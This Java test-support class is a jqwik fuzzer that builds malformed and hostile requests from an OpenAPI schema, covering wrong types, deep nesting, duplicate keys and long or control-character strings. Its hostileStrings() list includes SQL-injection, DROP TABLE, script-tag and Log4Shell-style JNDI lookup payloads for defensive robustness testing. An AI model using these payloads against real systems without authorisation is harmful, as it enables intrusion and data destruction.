package io.corral.testsupport.fuzz;

import io.corral.testsupport.fuzz.FuzzRequest.Target;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import tools.jackson.core.StreamWriteConstraints;
import tools.jackson.core.json.JsonFactory;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.JsonNodeFactory;
import tools.jackson.databind.node.ObjectNode;

/**
 * Hostile requests for the endpoints of an OpenAPI document: arbitrary strings (control
 * characters, unicode, very long), wrong types, deep nesting, duplicate keys, in bodies
 * of the endpoint's schema and in percent-encoded path segments.
 */
public final class FuzzRequests {

    private static final JsonNodeFactory JSON = JsonNodeFactory.instance;

    private static final int MAX_DEPTH = 6;

    /** Writes nesting far deeper than the services read. */
    private static final JsonMapper WRITER = JsonMapper
        .builder(JsonFactory.builder()
            .streamWriteConstraints(StreamWriteConstraints.builder().maxNestingDepth(10_000).build())
            .build())
        .build();

    private FuzzRequests() {
    }

    public static Arbitrary<FuzzRequest> of(List<ApiEndpoint> endpoints) {
        return Arbitraries.of(endpoints).flatMap(FuzzRequests::of);
    }

    static Arbitrary<FuzzRequest> of(ApiEndpoint endpoint) {
        List<Arbitrary<FuzzRequest>> kinds = new ArrayList<>();
        for (String parameter : endpoint.pathParameters().keySet()) {
            kinds.add(pathSegment(endpoint, parameter));
        }
        if (endpoint.body() != null) {
            kinds.add(body(endpoint));
            kinds.add(rawBody(endpoint));
            List<List<String>> fields = fieldPaths(endpoint, endpoint.body(), List.of(), 0);
            if (!fields.isEmpty()) {
                kinds.add(Arbitraries.of(fields).flatMap(field -> oneField(endpoint, field)));
                kinds.add(Arbitraries.of(fields).flatMap(field -> oneField(endpoint, field)));
            }
        }
        return kinds.isEmpty() ? Arbitraries.just(request(endpoint, null, null, Target.PATH))
                : Arbitraries.oneOf(kinds);
    }

    /** Strings no handler expects. */
    public static Arbitrary<String> hostileStrings() {
        var chars = Arbitraries.strings()
            .withCharRange('\u0000', '\u001f')
            .withCharRange(' ', '~')
            .withCharRange('\u0080', '\u05ff')
            .withChars('\u2028', '\u2029', '\ufeff', '\ufffd', '\u202e', '\u4e2d');
        return Arbitraries.oneOf(chars.ofMaxLength(40), chars.ofMinLength(300).ofMaxLength(20_000),
                Arbitraries.of("", " ", "null", "0", "-1", "😀🏳️‍🌈", "' or '1'='1", "${jndi:ldap://x/a}",
                        "<script>x</script>", "Robert'); DROP TABLE cells;--", "\\u0000", "%00", "a".repeat(256),
                        "a".repeat(1025)));
    }

    /**
     * A plausible body (its required fields, each with a value of its type within its
     * limits) with one hostile field: so the hostile value gets past the other fields'
     * checks and, if no check stops it, as far as the database.
     */
    private static Arbitrary<FuzzRequest> oneField(ApiEndpoint endpoint, List<String> field) {
        JsonNode fieldSchema = schemaAt(endpoint, endpoint.body(), field);
        return value(endpoint, fieldSchema, 1).map(hostile -> {
            JsonNode body = plausible(endpoint, endpoint.body(), 0);
            JsonNode parent = body;
            for (String name : field.subList(0, field.size() - 1)) {
                parent = child(endpoint, parent, name,
                        schemaAt(endpoint, endpoint.body(), field.subList(0, field.indexOf(name) + 1)));
            }
            if (parent instanceof ObjectNode object) {
                object.set(field.get(field.size() - 1), hostile.node());
            }
            return new FuzzRequest(endpoint, path(endpoint, Map.of()), write(body), Target.BODY, hostile.wrongType(),
                    null);
        });
    }

    private static JsonNode child(ApiEndpoint endpoint, JsonNode parent, String name, JsonNode schema) {
        if (!(parent instanceof ObjectNode object)) {
            return parent;
        }
        JsonNode child = object.get(name);
        if (child == null || child.isNull()) {
            child = plausible(endpoint, schema, 1);
            object.set(name, child);
        }
        if (child instanceof ArrayNode array) {
            if (array.isEmpty()) {
                array.add(plausible(endpoint, endpoint.resolve(schema).path("items"), 1));
            }
            return array.get(0);
        }
        return child;
    }

    /**
     * The paths of the fields of {@code schema}, through objects and first array items.
     */
    private static List<List<String>> fieldPaths(ApiEndpoint endpoint, JsonNode schema, List<String> prefix,
            int depth) {
        List<List<String>> paths = new ArrayList<>();
        JsonNode resolved = endpoint.resolve(schema);
        if (typeOf(resolved).equals("array")) {
            resolved = endpoint.resolve(resolved.path("items"));
        }
        if (depth > 3) {
            return paths;
        }
        for (var property : resolved.path("properties").properties()) {
            List<String> path = new ArrayList<>(prefix);
            path.add(property.getKey());
            paths.add(path);
            paths.addAll(fieldPaths(endpoint, property.getValue(), path, depth + 1));
        }
        return paths;
    }

    private static JsonNode schemaAt(ApiEndpoint endpoint, JsonNode schema, List<String> path) {
        JsonNode current = schema;
        for (String name : path) {
            JsonNode resolved = endpoint.resolve(current);
            if (typeOf(resolved).equals("array")) {
                resolved = endpoint.resolve(resolved.path("items"));
            }
            current = resolved.path("properties").path(name);
        }
        return current;
    }

    /**
     * A value of {@code schema} a service should accept: required fields only, within
     * limits.
     */
    static JsonNode plausible(ApiEndpoint endpoint, JsonNode schema, int depth) {
        JsonNode resolved = endpoint.resolve(schema);
        return switch (typeOf(resolved)) {
            case "string" -> JSON.stringNode(plausibleString(resolved));
            case "integer", "number" -> JSON.numberNode(Math.max(resolved.path("minimum").asLong(1),
                    Math.min(1, resolved.path("maximum").asLong(Long.MAX_VALUE))));
            case "boolean" -> JSON.booleanNode(false);
            case "array" -> {
                ArrayNode array = JSON.arrayNode();
                if (resolved.path("minItems").asInt(0) > 0 || depth == 0) {
                    array.add(plausible(endpoint, resolved.path("items"), depth + 1));
                }
                yield array;
            }
            case "object" -> resolved.path("properties").isEmpty() ? endpoint.plausibleAny()
                    : plausibleObject(endpoint, resolved, depth);
            default -> endpoint.plausibleAny();
        };
    }

    /**
     * Its required fields and its numbers and booleans (which may be Java primitives).
     */
    private static ObjectNode plausibleObject(ApiEndpoint endpoint, JsonNode schema, int depth) {
        ObjectNode object = JSON.objectNode();
        List<String> required = new ArrayList<>();
        schema.path("required").forEach(name -> required.add(name.asString()));
        for (var property : schema.path("properties").properties()) {
            String type = typeOf(endpoint.resolve(property.getValue()));
            if (required.contains(property.getKey()) || List.of("integer", "number", "boolean").contains(type)) {
                object.set(property.getKey(), plausible(endpoint, property.getValue(), depth + 1));
            }
        }
        return object;
    }

    private static String plausibleString(JsonNode schema) {
        if (schema.path("enum").isArray() && !schema.path("enum").isEmpty()) {
            return schema.path("enum").get(0).asString();
        }
        if (schema.path("format").asString("").startsWith("uri")) {
            return "http://fuzz.example.com/x";
        }
        return "fuzz-a1";
    }

    private static Arbitrary<FuzzRequest> pathSegment(ApiEndpoint endpoint, String parameter) {
        Arbitrary<String> segments = hostileStrings();
        Arbitrary<Tuple.Tuple2<String, Generated>> both = Combinators
            .combine(segments, value(endpoint, endpoint.body()))
            .as(Tuple::of);
        return both.map(pair -> request(endpoint, Map.of(parameter, pair.get1()),
                endpoint.body() == null ? null : pair.get2(), Target.PATH));
    }

    private static Arbitrary<FuzzRequest> body(ApiEndpoint endpoint) {
        Arbitrary<Generated> bodies = value(endpoint, endpoint.body());
        Arbitrary<FuzzRequest> plain = bodies.map(body -> request(endpoint, Map.of(), body, Target.BODY));
        return Arbitraries.oneOf(plain, bodies.map(body -> withDuplicateKey(endpoint, body)));
    }

    private static FuzzRequest withDuplicateKey(ApiEndpoint endpoint, Generated body) {
        if (!(body.node() instanceof ObjectNode object) || object.isEmpty()) {
            return request(endpoint, Map.of(), body, Target.BODY);
        }
        String key = object.propertyNames().iterator().next();
        String text = write(object);
        String duplicated = "{\"" + key + "\": " + write(object.get(key)) + ", " + text.substring(1);
        FuzzRequest request = request(endpoint, Map.of(), body, Target.BODY);
        return new FuzzRequest(endpoint, request.path(), duplicated, Target.BODY, body.wrongType(), key);
    }

    private static Arbitrary<FuzzRequest> rawBody(ApiEndpoint endpoint) {
        Arbitrary<String> texts = Arbitraries.oneOf(
                Arbitraries.of("", "{", "[]", "[{}]", "null", "\"a\"", "12", "true", "{\"a\":}", "{}", "{\"\":1}",
                        "{\"a\":1,}", "\uFEFF{}", "{\"a\":NaN}", "{\"a\":1e999999}", "{\"a\":-0}",
                        "{\"a\":123456789012345678901234567890}"),
                hostileStrings(), deepNesting().map(FuzzRequests::write));
        return texts
            .map(text -> new FuzzRequest(endpoint, path(endpoint, Map.of()), text, Target.RAW_BODY, false, null));
    }

    private static Arbitrary<JsonNode> deepNesting() {
        return Arbitraries.integers().between(1, 1500).map(FuzzRequests::nested);
    }

    private static JsonNode nested(int depth) {
        JsonNode node = JSON.objectNode().put("run", "x");
        for (int i = 0; i < depth; i++) {
            node = i % 2 == 0 ? JSON.arrayNode().add(node) : JSON.objectNode().set("a", node);
        }
        return node;
    }

    private static FuzzRequest request(ApiEndpoint endpoint, Map<String, String> hostileSegments, Generated body,
            Target target) {
        return new FuzzRequest(endpoint, path(endpoint, hostileSegments), body == null ? null : write(body.node()),
                target, body != null && body.wrongType(), null);
    }

    private static String path(ApiEndpoint endpoint, Map<String, String> hostileSegments) {
        String path = endpoint.template();
        for (var parameter : endpoint.pathParameters().entrySet()) {
            JsonNode schema = endpoint.resolve(parameter.getValue());
            String value = hostileSegments.getOrDefault(parameter.getKey(),
                    plausibleSegment(parameter.getKey(), schema));
            path = path.replace("{" + parameter.getKey() + "}", encode(value));
        }
        return path;
    }

    private static String plausibleSegment(String name, JsonNode schema) {
        if (typeOf(schema).equals("integer")) {
            return "0";
        }
        return schema.path("enum").isEmpty() ? "fuzz-" + name.replace('_', '-') : plausibleString(schema);
    }

    /** Every byte but the unreserved ones percent-encoded. */
    static String encode(String segment) {
        StringBuilder encoded = new StringBuilder();
        for (byte b : segment.getBytes(StandardCharsets.UTF_8)) {
            char c = (char) (b & 0xff);
            if (Character.isLetterOrDigit(c) && c < 0x80 || "-._~".indexOf(c) >= 0) {
                encoded.append(c);
            }
            else {
                encoded.append('%').append(String.format("%02X", b & 0xff));
            }
        }
        return encoded.toString();
    }

    /**
     * A value of {@code schema} with hostile content, or now and then of another type.
     */
    private static Arbitrary<Generated> value(ApiEndpoint endpoint, JsonNode schema) {
        return value(endpoint, schema, 0);
    }

    private static Arbitrary<Generated> value(ApiEndpoint endpoint, JsonNode schema, int depth) {
        if (schema == null) {
            return Arbitraries.just(new Generated(JSON.nullNode(), false));
        }
        JsonNode resolved = endpoint.resolve(schema);
        String type = typeOf(resolved);
        if (depth > MAX_DEPTH) {
            return Arbitraries.just(new Generated(JSON.objectNode(), false));
        }
        Arbitrary<Generated> ofType = switch (type) {
            case "string" -> strings(resolved).map(s -> new Generated(JSON.stringNode(s), false));
            case "integer" -> integers().map(n -> new Generated(n, false));
            case "number" -> Arbitraries.oneOf(integers(), Arbitraries.doubles().map(JSON::numberNode))
                .map(n -> new Generated(n, false));
            case "boolean" -> Arbitraries.of(true, false).map(b -> new Generated(JSON.booleanNode(b), false));
            case "array" -> array(endpoint, resolved.path("items"), depth);
            case "object" -> object(endpoint, resolved, depth);
            default -> anyJson().map(node -> new Generated(node, false));
        };
        if (type.equals("any") || depth == 0) {
            return ofType;
        }
        return Arbitraries.frequencyOf(Tuple.of(8, ofType), Tuple.of(2, wrongType(type)),
                Tuple.of(1, Arbitraries.just(new Generated(JSON.nullNode(), false))),
                Tuple.of(1, deepNesting().map(node -> new Generated(node, false))));
    }

    private static String typeOf(JsonNode schema) {
        JsonNode type = schema.path("type");
        if (type.isArray()) {
            for (JsonNode each : type) {
                if (!each.asString().equals("null")) {
                    return each.asString();
                }
            }
        }
        if (type.isString()) {
            return type.asString();
        }
        return schema.has("properties") ? "object" : "any";
    }

    private static Arbitrary<String> strings(JsonNode schema) {
        List<String> enumValues = new ArrayList<>();
        schema.path("enum").forEach(value -> enumValues.add(value.asString()));
        return enumValues.isEmpty() ? hostileStrings()
                : Arbitraries.oneOf(Arbitraries.of(enumValues), hostileStrings());
    }

    private static Arbitrary<JsonNode> integers() {
        return Arbitraries.oneOf(Arbitraries.longs().map(JSON::numberNode),
                Arbitraries.of(0L, -1L, 1L, 2L, 65535L, 65536L, Integer.MAX_VALUE + 1L, Long.MIN_VALUE)
                    .map(JSON::numberNode),
                Arbitraries.just(JSON.numberNode(new java.math.BigInteger("123456789012345678901234567890"))));
    }

    private static Arbitrary<Generated> wrongType(String type) {
        List<JsonNode> wrong = new ArrayList<>();
        if (!type.equals("string")) {
            wrong.add(JSON.stringNode("2"));
        }
        if (!type.equals("integer") && !type.equals("number")) {
            wrong.add(JSON.numberNode(1));
        }
        if (!type.equals("number")) {
            wrong.add(JSON.numberNode(2.5));
        }
        if (!type.equals("boolean")) {
            wrong.add(JSON.booleanNode(true));
        }
        if (!type.equals("array")) {
            wrong.add(JSON.arrayNode().add("x"));
        }
        if (!type.equals("object")) {
            wrong.add(JSON.objectNode().put("a", 1));
        }
        return Arbitraries.of(wrong).map(node -> new Generated(node, true));
    }

    private static Arbitrary<Generated> array(ApiEndpoint endpoint, JsonNode items, int depth) {
        return value(endpoint, items, depth + 1).list().ofMaxSize(3).map(elements -> {
            ArrayNode array = JSON.arrayNode();
            elements.forEach(element -> array.add(element.node()));
            return new Generated(array, elements.stream().anyMatch(Generated::wrongType));
        });
    }

    private static Arbitrary<Generated> object(ApiEndpoint endpoint, JsonNode schema, int depth) {
        List<String> names = new ArrayList<>(schema.path("properties").propertyNames());
        if (names.isEmpty()) {
            return anyJson().map(node -> new Generated(node, false));
        }
        List<Arbitrary<Generated>> fields = new ArrayList<>();
        for (String name : names) {
            fields.add(Arbitraries.frequencyOf(
                    Tuple.of(6, value(endpoint, schema.path("properties").path(name), depth + 1)),
                    Tuple.of(1, Arbitraries.just(new Generated(null, false)))));
        }
        return Combinators.combine(fields).as(values -> {
            ObjectNode object = JSON.objectNode();
            boolean wrongType = false;
            for (int i = 0; i < names.size(); i++) {
                Generated field = values.get(i);
                if (field.node() != null) {
                    object.set(names.get(i), field.node());
                    wrongType |= field.wrongType();
                }
            }
            return new Generated(object, wrongType);
        });
    }

    private static Arbitrary<JsonNode> anyJson() {
        return Arbitraries.oneOf(hostileStrings().map(JSON::stringNode), integers(),
                hostileStrings().map(s -> JSON.objectNode().put(s.isEmpty() ? "k" : s, s)), deepNesting());
    }

    private static String write(JsonNode node) {
        return WRITER.writeValueAsString(node);
    }

    /**
     * A generated JSON value, and whether a field in it holds another type than its
     * schema's.
     */
    record Generated(JsonNode node, boolean wrongType) {
    }

}
